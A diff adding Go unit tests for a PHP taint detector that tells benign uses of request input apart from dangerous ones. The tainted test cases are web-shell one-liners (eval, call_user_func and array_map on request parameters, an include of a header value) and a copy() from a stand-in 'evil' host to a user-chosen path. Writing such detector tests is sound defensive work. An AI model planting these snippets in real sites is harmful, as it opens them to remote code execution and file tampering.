@@ -0,0 +1,56 @@
+package core
+
+import "testing"
+
+func phpTaintRules(data string) []string {
+	var rules []string
+	for _, hit := range (phpLexerMatcher{}).Match(data) {
+		if _, ok := phpTaintScores[hit.Rule]; ok {
+			rules = append(rules, hit.Rule)
+		}
+	}
+	return rules
+}
+
+// 正常代码中的外部输入不应被视为到达危险函数
+func TestPHPTaintBenign(t *testing.T) {
+	tests := []struct {
+		name, code string
+	}{
+		{"server document root", `<?php include $_SERVER['DOCUMENT_ROOT'].'/config.php';`},
+		{"server script filename", `<?php require_once dirname($_SERVER["SCRIPT_FILENAME"]) . "/lib.php";`},
+		{"server interpolated", `<?php include "{$_SERVER['DOCUMENT_ROOT']}/config.php";`},
+		{"array_map constant callback", `<?php $data = array_map('trim', $_POST);`},
+		{"array_filter constant callback", `<?php $ids = array_filter($_GET['ids'], 'is_numeric');`},
+		{"call_user_func constant callback", `<?php call_user_func('printf', "%s", $_GET['name']);`},
+		{"call_user_func_array constant callback", `<?php call_user_func_array(array($this, 'render'), $_POST);`},
+		{"move_uploaded_file", `<?php move_uploaded_file($_FILES['f']['tmp_name'], '/var/www/uploads/' . md5(time()) . '.jpg');`},
+		{"copy to constant path", `<?php copy($_FILES['f']['tmp_name'], "/tmp/upload.bin");`},
+	}
+	for _, tt := range tests {
+		if rules := phpTaintRules(tt.code); len(rules) > 0 {
+			t.Errorf("%s: %s got %v, want no taint hit", tt.name, tt.code, rules)
+		}
+	}
+}
+
+func TestPHPTaintSinkArgs(t *testing.T) {
+	tests := []struct {
+		name, code, rule string
+	}{
+		{"server header", `<?php include $_SERVER['HTTP_X_FILE'];`, phpTaintIncludeRule},
+		{"server query string", `<?php include "$_SERVER[QUERY_STRING]";`, phpTaintIncludeRule},
+		{"server variable key", `<?php eval($_SERVER[$k]);`, phpTaintExecRule},
+		{"array_map callback", `<?php array_map($_GET['f'], array($_POST['c']));`, phpTaintExecRule},
+		{"array_filter callback", `<?php array_filter(array($_POST['c']), $_GET['f']);`, phpTaintExecRule},
+		{"call_user_func callback", `<?php call_user_func($_REQUEST['f'], $_REQUEST['c']);`, phpTaintExecRule},
+		{"move_uploaded_file destination", `<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['path']);`, phpTaintFileWriteRule},
+		{"copy destination", `<?php $d = $_GET['d']; copy('http://evil/x.txt', $d);`, phpTaintFileWriteRule},
+	}
+	for _, tt := range tests {
+		rules := phpTaintRules(tt.code)
+		if len(rules) != 1 || rules[0] != tt.rule {
+			t.Errorf("%s: %s got %v, want [%s]", tt.name, tt.code, rules, tt.rule)
+		}
+	}
+}